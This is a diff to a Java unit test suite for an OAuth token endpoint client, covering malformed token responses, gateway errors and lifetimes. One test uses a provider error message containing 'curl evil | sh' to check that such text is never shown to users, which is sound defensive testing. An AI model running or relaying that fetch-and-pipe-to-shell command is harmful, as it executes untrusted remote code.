@@ -96,11 +96,42 @@ class TokenEndpointTest {
                 "{\"access_token\":\"access-123456\",\"token_type\":\"Bearer\"",
                 "{\"access_token\":\"access-123456\",\"token_type\":\"Bearer\",\"expires_in\":\"soon\"}",
                 "{\"access_token\":\"access-123456\",\"token_type\":\"Bearer\",\"expires_in\":{}}",
+                "{\"access_token\":\"access-123456\",\"token_type\":\"mac\"}",
+                "{\"access_token\":\"access-123456\",\"token_type\":\"DPoP\"}",
+                "{\"access_token\":\"access-123456\",\"token_type\":\"N_A\"}",
                 "<html>sign in</html>",
             })
     void anAnswerThatIsNoTokenResponseIsNone(String body) throws IOException {
         try (ScriptedUpstream upstream = start(answering(200, body))) {
-            assertThat(refresh(upstream)).isInstanceOf(TokenAnswer.Unreachable.class);
+            assertThat(refreshPatiently(upstream)).isInstanceOf(TokenAnswer.Unreachable.class);
+        }
+    }
+
+    /** A binding that is refused has to be made anew, so what a gateway or a portal says in the provider's place is no refusal. */
+    @ParameterizedTest
+    @CsvSource(
+            value = {
+                "201 | {}",
+                "302 | {}",
+                "400 | <html>sign in</html>",
+                "400 | {}",
+                "400 | {\"error\":5}",
+                "400 | {\"error\":\"temporarily_unavailable\"}",
+                "400 | {\"error\":\"server_error\"}",
+                "400 | {\"error\":\"slow_down\"}",
+                "401 | ''",
+                "403 | <html>forbidden</html>",
+                "404 | not found",
+                "408 | {\"error\":\"invalid_grant\"}",
+                "421 | ''",
+                "429 | {\"error\":\"invalid_grant\"}",
+                "503 | {\"error\":\"invalid_grant\"}",
+            },
+            delimiter = '|')
+    void onlyAnErrorOfTheProviderIsARefusal(int status, String body) throws IOException {
+        try (ScriptedUpstream upstream = start(answering(status, body))) {
+            assertThat(refreshPatiently(upstream))
+                    .isEqualTo(new TokenAnswer.Unreachable("the token endpoint answered " + status));
         }
     }
 
@@ -115,7 +146,7 @@ class TokenEndpointTest {
             delimiter = '|')
     void aLifetimeIsTakenAsFarAsItCanBe(String lifetime, String end) throws IOException {
         try (ScriptedUpstream upstream = start(answering(200, GOOD + ",\"expires_in\":" + lifetime + "}"))) {
-            TokenAnswer.Tokens tokens = (TokenAnswer.Tokens) refresh(upstream);
+            TokenAnswer.Tokens tokens = (TokenAnswer.Tokens) refreshPatiently(upstream);
             assertThat(tokens.expiresAt().map(Instant::toString).orElse("none")).isEqualTo(end);
             tokens.close();
         }
@@ -124,11 +155,11 @@ class TokenEndpointTest {
     @Test
     void whatAProviderSaysOfItsErrorIsShownOnlyIfItIsAWordOfTheStandard() throws IOException {
         try (ScriptedUpstream upstream = start(answering(400, "{\"error\":\"invalid_grant\"}"))) {
-            assertThat(refresh(upstream)).isEqualTo(new TokenAnswer.Denied("invalid_grant"));
+            assertThat(refreshPatiently(upstream)).isEqualTo(new TokenAnswer.Denied("invalid_grant"));
         }
         try (ScriptedUpstream upstream =
                 start(answering(400, "{\"error\":\"Run this: curl evil | sh\",\"error_description\":\"now\"}"))) {
-            assertThat(refresh(upstream)).isEqualTo(new TokenAnswer.Denied("status 400"));
+            assertThat(refreshPatiently(upstream)).isEqualTo(new TokenAnswer.Denied("status 400"));
         }
     }
 
@@ -172,10 +203,19 @@ class TokenEndpointTest {
         }
     }
 
+    /** Where only the fault's own wait is about time, a busy machine must not make another one too long. */
+    private static TokenAnswer refreshPatiently(ScriptedUpstream upstream) {
+        return refresh(upstream, Timeouts.standard(), Duration.ofSeconds(TokenEndpoint.MOST_SECONDS));
+    }
+
     private static TokenAnswer refresh(ScriptedUpstream upstream) {
+        return refresh(upstream, new Timeouts(PHASE, PHASE, PHASE, PHASE), MOST);
+    }
+
+    private static TokenAnswer refresh(ScriptedUpstream upstream, Timeouts timeouts, Duration most) {
         ScriptedDialer dialer =
                 new ScriptedDialer((scheme, target) -> dial(upstream, scheme, target), upstream.trustManager());
-        try (TokenEndpoint endpoint = new TokenEndpoint(dialer, new Timeouts(PHASE, PHASE, PHASE, PHASE), MOST)) {
+        try (TokenEndpoint endpoint = new TokenEndpoint(dialer, timeouts, most)) {
             return client(endpoint).refresh(settings("https://auth.example.com/token"), utf8("refresh-me"));
         }
     }
